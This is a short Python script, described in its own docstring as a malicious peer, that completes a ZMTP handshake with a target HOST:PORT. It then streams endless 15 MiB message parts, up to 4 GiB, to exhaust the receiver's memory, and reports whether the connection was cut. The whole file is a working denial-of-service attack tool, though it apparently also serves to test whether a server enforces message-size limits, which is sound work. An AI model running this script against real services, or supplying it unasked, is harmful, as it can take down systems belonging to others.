"""A peer that was let in and means harm: flood.py HOST:PORT sends the parts of one message
without end, as ZMTP allows, until the other side has enough of it."""
import socket
import sys

MECHANISM = b"NULL".ljust(20, b"\0")
READY = b"\x05READY\x0bSocket-Type\0\0\0\x06DEALER\x08Identity\0\0\0\0"
PART = bytes(15 << 20)
MORE_AND_LONG, COMMAND = b"\x03", b"\x04"
ENOUGH = 4 << 30

host, port = sys.argv[1].split(":")
peer = socket.create_connection((host, int(port)))
peer.sendall(b"\xff" + bytes(8) + b"\x7f\x03\0" + MECHANISM + bytes(32))
greeting = 64
while greeting > 0:
    greeting -= len(peer.recv(greeting)) or sys.exit("no greeting")
peer.sendall(COMMAND + bytes([len(READY)]) + READY)
sent = 0
try:
    while sent < ENOUGH:
        peer.sendall(MORE_AND_LONG + len(PART).to_bytes(8, "big") + PART)
        sent += len(PART)
    print("never cut off")
except OSError:
    print(f"cut off after {sent >> 20} MiB")
